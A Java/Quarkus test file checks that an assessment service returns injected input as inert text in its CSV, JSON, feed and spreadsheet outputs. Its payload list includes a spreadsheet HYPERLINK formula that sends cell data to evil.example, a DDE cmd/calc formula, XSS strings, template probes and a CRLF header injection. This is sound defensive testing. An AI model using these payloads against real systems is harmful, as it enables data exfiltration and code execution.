package th.ita.assessment.attack;

import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.util.HashMap;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import javax.xml.parsers.DocumentBuilderFactory;

import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.InputSource;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;

import com.fasterxml.jackson.databind.JsonNode;

import th.ita.assessment.EmbeddedServers;
import th.ita.assessment.measure.MeasureClient;
import th.ita.assessment.score.Cases;
import th.ita.assessment.score.SheetClient;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Formulas, markup and the like in every text that any operation takes, read back in every form that any operation gives:
 * nothing but a text comes out. Both lists are the OpenAPI document's.
 */
@QuarkusTest
@QuarkusTestResource(EmbeddedServers.class)
class InjectionTest {

    /** Where it came back. */
    static final String MARK = "zqvinj";

    private static final Pattern MARKUP = Pattern.compile("<(script|img|svg|iframe)[ >][^\n]*" + MARK);

    /** No texts of somebody's own: what is not known by that name is refused. */
    private static final Pattern CODES = Pattern.compile(
            ".*/(code|node|nodes/\\*|id|rule|key|measure|url|email|website|provinceCode|evidenceUrls/\\*|type|reportedLevel)");

    /** A framework is every agency's, a password comes back nowhere, and what an account is called is in its address. */
    private static final Pattern APART =
            Pattern.compile("(putFrameworkDefinition|changePassword) .*|putAccount /(name|initialPassword)");

    @TestHTTPResource("/")
    URI service;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3",
                "@SUM(1,2)",
                "<script>alert(1)</script>",
                "\"'><img src=x onerror=alert(1)>",
                "]]><svg onload=alert(1)>&amp;&#60;",
                "${7*7}{{7*7}}#{7*7}",
                "x\r\nSet-Cookie: a=b\r\n\r\n",
                "\u202Egnp.exe"
            })
    void whatSomebodyWritesComesBackAsATextInEveryForm(String attack) throws Exception {
        long agency = SheetClient.ofNewAgency("70").agencyId();
        SheetClient.of(agency).create(Cases.PAKCHONG_2564).then().statusCode(201);
        MeasureClient.of(agency).draft();
        Map<String, Object> values = new HashMap<>(
                Map.of("agencyId", agency, "fiscalYear", 2564, "version", 1, "provinceCode", "70", "node", "O24"));
        values.put("account", "injected-" + agency);
        UnaryOperator<String> hostile = text -> attack + MARK + " " + text;
        Operations operations = Operations.ofTheApplication();
        try (Client client = new Client(service)) {
            Set<String> taken = new TreeSet<>();
            Writer writer = new Writer(client, operations, values);
            for (Operations.Operation operation : operations.writing()) {
                if (operation.id().startsWith("withdraw") || operation.path().contains("/accounts/me/")) {
                    continue;
                }
                Writer.Outcome outcome = writer.write(Client.administrator(), operation, hostile);
                assertThat(outcome.status()).as(outcome.toString()).isLessThan(500);
                outcome.fields().forEach(field -> taken.add(operation.id() + " " + field));
            }
            HostileYear year = new HostileYear(operations, client, values, hostile);
            year.publish();
            Set<String> back = look(client, operations, values);
            year.reconsider();
            back.addAll(look(client, operations, values));
            taken.addAll(year.taken());
            // Characters that control something are refused in most places.
            if (attack.chars().noneMatch(c -> c == '\r' || c == '\u202E')) {
                Set<String> missing = fields(operations);
                missing.removeAll(taken);
                assertThat(missing).as("fields that did not take it").isEmpty();
                assertThat(back)
                        .contains(
                                "getMeasureSet application/json",
                                "listAudit application/json",
                                "getProgress application/json",
                                "getPublishedEvidence application/json",
                                "getPublishedFeed application/feed+json",
                                "listPublishedMeasures application/json",
                                "getCirculation application/json");
            }
        }
    }

    /** All that the document has, but for codes. */
    private static Set<String> fields(Operations operations) {
        Set<String> fields = new TreeSet<>();
        for (Operations.Operation operation : operations.writing()) {
            operations.fields(operation).forEach(field -> fields.add(operation.id() + " " + field));
        }
        fields.removeIf(
                field -> CODES.matcher(field).matches() || APART.matcher(field).matches());
        return fields;
    }

    /** Reads all that there is; answers where it came back. */
    private static Set<String> look(Client client, Operations operations, Map<String, Object> values) throws Exception {
        SoftAssertions each = new SoftAssertions();
        Set<String> back = new TreeSet<>();
        for (Operations.Operation operation : operations.reading()) {
            String path = operation.at(values) + query(operation);
            for (String type : operation.answers()) {
                Client.Answer answer = client.get(Client.administrator(), path, type);
                each.assertThat(answer.status()).as(path).isLessThan(500);
                each.assertThat(answer.response().headers().map().toString())
                        .as(path)
                        .doesNotContain(MARK)
                        .containsIgnoringCase("x-content-type-options=[nosniff]");
                if (answer.text().contains(MARK)) {
                    back.add(operation.id() + " " + type);
                    isAText(each, path, answer);
                }
            }
        }
        each.assertAll();
        return back;
    }

    private static String query(Operations.Operation operation) {
        if (operation.parameters().contains("fiscalYear")) {
            return "?fiscalYear=2564";
        }
        return operation.path().endsWith("/lineage") ? "?to=2565" : "";
    }

    private static void isAText(SoftAssertions each, String path, Client.Answer answer) throws Exception {
        String type = answer.type().replaceAll(";.*", "");
        switch (type) {
            case "text/csv" -> cells(each, path, answer.text());
            case "application/json", "application/problem+json", "application/feed+json" ->
                each.assertThat(parsed(answer.text())).as(path).contains(MARK);
            case "application/x-ndjson" ->
                answer.text()
                        .lines()
                        .forEach(line -> each.assertThat(isJson(line)).as(path).isTrue());
            case "application/atom+xml" -> {
                DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
                factory.newDocumentBuilder().parse(new InputSource(new StringReader(answer.text())));
                each.assertThat(answer.text()).as(path).doesNotContainPattern(MARKUP);
            }
            case "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" ->
                each.assertThat(answer.text())
                        .as(path)
                        .doesNotContain("<f>", "<f ")
                        .doesNotContainPattern(MARKUP);
            case "text/plain", "application/yaml", "application/octet-stream" ->
                each.assertThat(answer.type()).as(path).doesNotContain("html");
            default -> each.assertThat(answer.text()).as(path + " as " + type).doesNotContainPattern(MARKUP);
        }
    }

    /** No cell that a spreadsheet would carry out. */
    private static void cells(SoftAssertions each, String path, String csv) {
        for (CsvRecord row : CsvReader.builder().ofCsvRecord(csv.replace("\uFEFF", ""))) {
            for (String cell : row.getFields()) {
                if (cell.contains(MARK)) {
                    each.assertThat(cell)
                            .as(path)
                            .doesNotStartWith("=")
                            .doesNotStartWith("+")
                            .doesNotStartWith("-");
                    each.assertThat(cell)
                            .as(path)
                            .doesNotStartWith("@")
                            .doesNotStartWith("\t")
                            .doesNotStartWith("\r");
                }
            }
        }
    }

    private static String parsed(String json) throws IOException {
        JsonNode read = Operations.JSON.readTree(json);
        return read.toString();
    }

    private static boolean isJson(String line) {
        try {
            return Operations.JSON.readTree(line) != null;
        } catch (IOException e) {
            return false;
        }
    }
}
